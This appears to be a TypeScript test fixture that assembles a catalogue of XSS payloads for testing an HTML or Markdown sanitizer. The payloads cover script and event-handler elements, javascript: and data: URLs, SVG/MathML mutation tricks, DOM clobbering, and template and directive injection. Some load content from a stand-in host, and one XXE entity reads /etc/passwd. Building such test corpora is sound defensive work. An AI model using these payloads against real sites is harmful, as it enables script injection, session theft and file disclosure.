import { readFileSync } from 'node:fs';
import { delimiter } from 'node:path';
import { NAUGHTY } from './odd-strings.ts';

// What would run calls `alert` with this, and what would load asks this host: both are seen by the tests.
const RUN = 'alert(1)';
const FOREIGN = 'https://hostile.test/x';
const BASE64 = Buffer.from(`<script>${RUN}</script>`).toString('base64');

/** Elements that run, load or move something, by class. */
const ELEMENTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${FOREIGN}.js></SCRIPT>`,
  `<script type=module>import("${FOREIGN}.js")</script>`,
  `<script/x>${RUN}</script/x>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src="${FOREIGN}.png" srcset="${FOREIGN}2.png 2x">`,
  `<image href=x onerror=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video poster=${FOREIGN}.png><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN} autoplay></audio>`,
  `<body onload=${RUN}>`,
  `<body background="${FOREIGN}.png">`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>x</div><style>@keyframes x{}</style>`,
  `<p tabindex=1 autofocus onfocus=${RUN}>x</p>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#x6A;avascript:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,${BASE64}">x</a>`,
  `<a ping="${FOREIGN}" href="/">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form action="${FOREIGN}"><input type=image src="${FOREIGN}.png"></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script>parent.${RUN}&lt;/script>"></iframe>`,
  `<iframe src="data:text/html;base64,${BASE64}"></iframe>`,
  `<frameset onload=${RUN}><frame src="${FOREIGN}">`,
  `<object data="data:text/html;base64,${BASE64}"></object>`,
  `<embed src="data:image/svg+xml;base64,${BASE64}">`,
  `<applet code=x archive="${FOREIGN}.jar"></applet>`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<link rel=stylesheet href="${FOREIGN}.css">`,
  `<link rel=prefetch href="${FOREIGN}">`,
  `<link rel=import href="data:text/html;base64,${BASE64}">`,
  `<style>@import "${FOREIGN}.css";*{background:url(${FOREIGN}.png)}</style>`,
  `<div style="background:url(${FOREIGN}.png)">x</div>`,
  `<div style="width:expression(${RUN});behavior:url(${FOREIGN})">x</div>`,
  `<table background="${FOREIGN}.png"><td background="${FOREIGN}.png">x</table>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<portal src="${FOREIGN}"></portal>`,
  `<bgsound src="javascript:${RUN}">`,
  `<xml id=x><x><b onload=${RUN}></b></x></xml>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
];

/** What is read in another way by one parser than by the next: namespaces, comments, raw text, templates. */
const MUTATIONS: readonly string[] = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to="javascript:${RUN}"/><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${BASE64}#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style>&lt;/style>&lt;img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><a id="</title><img src=x onerror=${RUN}>">`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><a href="</title><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg onload=${RUN}>">`,
  `<plaintext><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><svg onload=${RUN}>--!>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<p title="\`><img src=x onerror=${RUN}>\`">x`,
  `<img alt="\`\`onerror=${RUN}//" src=x>`,
  `<select><template><style><!--</style><a title="--><img src=x onerror=${RUN}>"></select>`,
  `<table><caption><script>${RUN}</script></caption><svg><td><style><img src=x onerror=${RUN}>`,
  `<b><p><b><p><b title="</b><svg/onload=${RUN}>">`,
  `<a id=attributes><a id=attributes name=nodeType><form id=x><input name=parentNode>`,
  `<img name=cookie><form name=body><input name=children></form><a id=warraq-search>`,
  `<p id=__proto__><p id=constructor><a name=documentElement href=x>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`, // FULLWIDTH LESS-THAN SIGN, GREATER-THAN SIGN
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<\u202Escript>${RUN}</script>`, // RIGHT-TO-LEFT OVERRIDE
];

/** What leaves the place in which a text is set: attributes, scripts, Markdown, XML, YAML, directives, templates. */
const BREAKS: readonly string[] = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `' onfocus=${RUN} autofocus '`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"};${RUN};//`,
  `\u2028${RUN}//`, // LINE SEPARATOR
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `*/</style><script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `![x](${FOREIGN}.png)`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[x](<java\nscript:${RUN}>)`,
  `<javascript:${RUN}>`,
  `[x](data:text/html;base64,${BASE64})`,
  `![x](x "onerror=${RUN}")`,
  `[x](https://a.example/"onmouseover=${RUN}//)`,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\`\n<img src=x onerror=${RUN}>`,
  `:::note{onclick="${RUN}" style="x" class="y"}\nx\n:::`,
  `:span[x]{onmouseover=${RUN}}`,
  `::video{src="javascript:${RUN}"}`,
  `::missing{kind=image src="javascript:${RUN}" alt="<img src=x onerror=${RUN}>"}`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{%raw%}<script>${RUN}</script>`,
  `javascript:${RUN}`,
  `//hostile.test/x`,
  `https:hostile.test`,
  `/\\hostile.test/x`,
];

/** Naughty strings that have markup or an address that runs in them. */
const CAUGHT = NAUGHTY.filter((each) => /<|javascript:|on\w+=|&#/i.test(each));

const FROM = process.env.WARRAQ_TEST_PAYLOADS_FROM;

/** Reads lists of others: a list of texts in JSON, or a payload on each line. */
function listsIn(files: string): string[] {
  const found = files.split(delimiter).flatMap((file): string[] => {
    const text = readFileSync(file, 'utf8');
    return file.endsWith('.json') ? (JSON.parse(text) as string[]) : text.split(/\r?\n/);
  });
  return [...new Set(found.filter((each) => each.trim() !== ''))];
}

/**
 * Gives payloads by class, or those of WARRAQ_TEST_PAYLOADS_FROM; of them the part that WARRAQ_TEST_PAYLOADS_PART names.
 *
 * @param whole all of them; else one of every `step`, so that each class is there
 */
export function payloads(whole: boolean, step = 6): readonly string[] {
  const [part = 1, parts = 1] = (process.env.WARRAQ_TEST_PAYLOADS_PART ?? '1/1').split('/').map(Number);
  return allPayloads(whole, step).filter((_, at) => at % parts === part - 1);
}

function allPayloads(whole: boolean, step: number): readonly string[] {
  if (FROM !== undefined) return listsIn(FROM);
  const own = [...ELEMENTS, ...MUTATIONS, ...BREAKS];
  if (!whole) return [...own, ...CAUGHT].filter((_, at) => at % step === 0);
  const nested = ELEMENTS.flatMap((each, at) => [
    `<svg>${each}</svg>`,
    `<math><mtext>${each}</mtext></math>`,
    `"><div title='${each.replaceAll("'", '&#39;')}'>${BREAKS[at % BREAKS.length]}`,
    each.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    each.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`).replaceAll(' ', '/\f'),
  ]);
  return [...own, ...CAUGHT, ...nested];
}
